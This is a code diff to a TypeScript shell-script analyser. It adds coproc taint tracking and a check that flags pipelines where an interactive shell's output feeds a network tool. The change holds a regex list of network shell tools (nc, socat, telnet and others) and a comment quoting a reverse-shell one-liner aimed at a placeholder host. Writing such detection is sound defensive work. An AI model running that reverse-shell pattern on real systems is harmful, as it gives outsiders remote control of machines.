@@ -182,9 +182,13 @@ const planNode = (
     }
     case 'Coproc': {
       const inner = { ...deeper(frame), state: fork(state), background: true };
-      return node.body.type === 'CompoundList'
-        ? planList(planner, node.body, inner)
-        : planNode(planner, node.body, inner);
+      const output =
+        node.body.type === 'CompoundList'
+          ? planList(planner, node.body, inner)
+          : planNode(planner, node.body, inner);
+      // Its output is read through the descriptors in this array.
+      assign(state, node.name?.text ?? 'COPROC', { taints: output });
+      return output;
     }
     case 'TestCommand':
     case 'ArithmeticCommand': {
@@ -261,6 +265,14 @@ const planPipeline = (planner: ShellPlanner, node: Pipeline, frame: Frame): Read
   let input = frame.input;
   let output: ReadonlySet<FlowEnd> = noTaints;
   const several = node.commands.length > 1;
+  if (several && connectsShell(node.commands)) {
+    planner.add(frame, {
+      kind: 'exec',
+      program: { name: '', trusted: false },
+      traits: ['net-shell'],
+      text: 'a shell that answers to the network',
+    });
+  }
   const harmless = showsHarmlessVariables(node.commands);
   const before = planner.recorder.operations.length;
   node.commands.forEach((command, index) => {
@@ -275,6 +287,35 @@ const planPipeline = (planner: ShellPlanner, node: Pipeline, frame: Frame): Read
     if (several && last) join(frame.state, state);
   });
   return output;
+};
+
+const connects = /^(.*\/)?(nc|ncat|netcat|nc\.\w+|telnet|socat|websocat|cryptcat|busybox|openssl)$/;
+const shell = /^(.*\/)?(ba|z|da|k|a|c|tc|fi|mk)?sh$/;
+
+/**
+ * A shell without a script of its own whose output goes to a program that connects: `cat fifo | sh -i 2>&1 | nc host port`
+ * is a reverse shell, whatever feeds it (ATT&CK T1059.004).
+ */
+const connectsShell = (commands: Pipeline['commands']): boolean => {
+  const names = commands.map((command) => {
+    if (command.type !== 'Command') return undefined;
+    const words = [
+      command.name?.value ?? '',
+      ...command.args.map((arg) => (arg.type === 'Word' ? arg.value : '=')),
+    ];
+    return words.slice(
+      words.findIndex((word) => !/^(exec|command|env|nohup|setsid|stdbuf|-\w+)$/.test(word)),
+    );
+  });
+  const at = names.findIndex(
+    (words) =>
+      shell.test(words?.[0] ?? '') &&
+      words?.slice(1).every((word) => /^-[il]+$|^--norc$|^--noprofile$/.test(word)) === true,
+  );
+  return (
+    at >= 0 &&
+    names.slice(at + 1).some((words) => connects.test(words?.[0] ?? '') && (words?.length ?? 0) > 1)
+  );
 };
 
 const pipedFrom = (printed: Printed | undefined, taints: ReadonlySet<FlowEnd>): Input => {
